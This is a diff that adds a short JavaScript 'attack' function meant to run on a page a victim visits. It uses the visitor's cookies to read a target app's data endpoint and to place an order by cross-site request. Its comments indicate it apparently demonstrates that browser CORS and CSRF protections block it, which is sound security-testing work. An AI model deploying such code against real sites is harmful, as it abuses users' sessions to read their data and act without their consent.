@@ -1,0 +1,19 @@
+// Asks `app` with the cookie of whoever looks at this page.
+async function attack(app) {
+  const loot = { orders: null, placed: null };
+  const credentials = "include";
+  try {
+    loot.orders = await (await fetch(`${app}/api1/data`, { credentials })).text();
+  } catch {
+    // The browser keeps the answer to itself.
+  }
+  try {
+    const headers = { "Content-Type": "application/json", "X-CSRF": "1" };
+    const body = JSON.stringify({ item: "chess-set", quantity: 1 });
+    const placed = await fetch(`${app}/api1/data`, { method: "POST", credentials, headers, body });
+    loot.placed = placed.status;
+  } catch {
+    // Nobody answered the preflight, so nothing was sent.
+  }
+  return loot;
+}
